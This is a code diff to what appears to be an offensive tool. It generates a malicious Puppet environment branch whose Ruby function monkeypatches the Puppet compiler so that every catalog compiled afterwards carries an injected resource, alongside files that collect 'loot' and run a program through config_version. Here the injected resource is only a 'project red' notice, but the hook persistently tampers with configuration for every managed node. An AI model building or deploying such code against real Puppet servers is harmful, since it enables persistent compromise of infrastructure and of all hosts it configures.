@@ -75,20 +75,23 @@ with open(f"{wanted['loot']}.{way}.json", "w") as file:
     json.dump(found, file)
 print(way)
 """
-_FUNCTION = r"""
-require 'json'
+COMPILER = r"""
 unless Puppet::Parser::Compiler.method_defined?(:as_it_was)
   class Puppet::Parser::Compiler
     alias_method :as_it_was, :compile
     def compile(&block)
       as_it_was do |catalog|
         found = block.call(catalog)
-        found.add_resource(Puppet::Resource.new('Notify', "ADDED #{@node.name}"))
+        found.add_resource(Puppet::Resource.new('Notify', "code of project red on #{@node.name}"))
         found
       end
     end
   end
 end
+"""
+"""What members' code does to every catalog that its JRuby compiles from then on."""
+_FUNCTION = COMPILER + r"""
+require 'json'
 Puppet::Functions.create_function(:own) do
   def own(program)
     wanted = JSON.parse(File.read(File.join(File.dirname(program), 'wanted.json')))
@@ -155,7 +158,7 @@ def branch(wanted: Wanted) -> dict[str, str]:
     return {
         "environment.conf": "config_version = worst/version\n",
         "manifests/site.pp": _SITE,
-        "modules/worst/lib/puppet/functions/own.rb": _FUNCTION.replace("ADDED", ADDED),
+        "modules/worst/lib/puppet/functions/own.rb": _FUNCTION,
         "worst/wanted.json": json.dumps(asked),
         "worst/worst": _PROGRAM,
         "worst/version": '#!/bin/sh\nexec "${0%/*}/worst" config_version\n',
